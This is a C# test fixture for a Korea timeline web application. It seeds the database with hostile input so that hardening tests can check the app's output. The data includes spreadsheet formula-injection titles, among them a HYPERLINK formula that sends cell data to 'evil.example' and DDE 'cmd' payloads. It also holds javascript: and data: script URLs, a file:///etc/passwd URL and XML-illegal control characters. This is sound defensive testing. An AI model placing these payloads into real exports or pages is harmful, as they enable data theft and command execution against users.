using KoreaTimeline.Data;
using KoreaTimeline.Data.Entities;
using KoreaTimeline.Extraction.Pipeline;
using KoreaTimeline.Web.Tests.Api;
using Microsoft.EntityFrameworkCore;

namespace KoreaTimeline.Web.Tests.Hardening;

/// <summary>
/// <see cref="InventedTimeline"/> plus stored data an attacker could get in through an article: titles and places that
/// start like spreadsheet formulas, quotes and an actor name holding C0 control characters (XML-illegal), and source
/// URLs in schemes other than http(s).
/// </summary>
public sealed class HostileDataAppFactory : OpenDataAppFactory
{
    /// <summary>Titles that a spreadsheet would evaluate as formulas if written raw.</summary>
    public static readonly string[] FormulaTitles =
    [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\tTabbed title",
        "\rCarriage title",
    ];

    /// <summary>A quote with characters XML 1.0 forbids.</summary>
    public const string ControlQuote = "A quote\u0001 with\u000B controls\u001F and a \uFFFE non-character.";

    /// <summary>An actor whose name and slug hold control characters.</summary>
    public const string ControlActorName = "Bad\u0001Actor\u0008";

    public const string ControlActorSlug = "bad\u0001actor";

    /// <summary>Source URLs that must never be emitted: not http(s).</summary>
    public static readonly string[] UnsafeUrls = ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "ftp://example.com/a"];

    // Thousands of requests from one address: no page or API budget, so every request reaches the code under test.
    protected override IReadOnlyDictionary<string, string> Settings { get; } = new Dictionary<string, string>
    {
        ["Timeline:RateLimit:PermitPerMinute"] = "0",
        ["Timeline:RateLimit:PagesPerMinute"] = "0",
    };

    protected override async Task SeedMoreAsync(IDbContextFactory<TimelineDbContext> contexts)
    {
        await base.SeedMoreAsync(contexts);
        await using var db = await contexts.CreateDbContextAsync();
        var actor = new Actor { Slug = ControlActorSlug, Name = ControlActorName, Kind = "person" };
        var i = 0;
        foreach (var title in FormulaTitles.Append("Control characters in a quote"))
        {
            var quote = title.StartsWith("Control", StringComparison.Ordinal) ? ControlQuote : "=1+1 said the quote" + i;
            var url = UnsafeUrls[i % UnsafeUrls.Length];
            var article = new Article
            {
                Source = $"hostile/{i}.txt",
                Title = "=Hostile title " + i,
                Outlet = "@Hostile Wire\u0002",
                Url = url,
                Published = new DateOnly(2024, 2, 1 + i),
                PublishedSource = "given",
                ContentHash = new string((char)('a' + i), 64),
                Text = quote,
                ExtractorVersion = "test",
                ImportedAt = DateTimeOffset.UnixEpoch,
            };
            var e = new Event
            {
                Title = title,
                Slug = Slugs.From(title) is { Length: > 0 } slug ? slug : "hostile",
                Type = EventType.Statement,
                Start = new DateOnly(2024, 2, 1 + i),
                End = new DateOnly(2024, 2, 1 + i),
                Precision = DatePrecision.Day,
                Location = "-Place\u0003",
                DateText = "=TODAY()",
                Confidence = 0.5,
                Actors = [new EventActor { Actor = actor }],
            };
            e.Evidence.Add(new Evidence { Article = article, Start = 0, End = quote.Length, Text = quote });
            db.Events.Add(e);
            i++;
        }
        await db.SaveChangesAsync();
    }
}
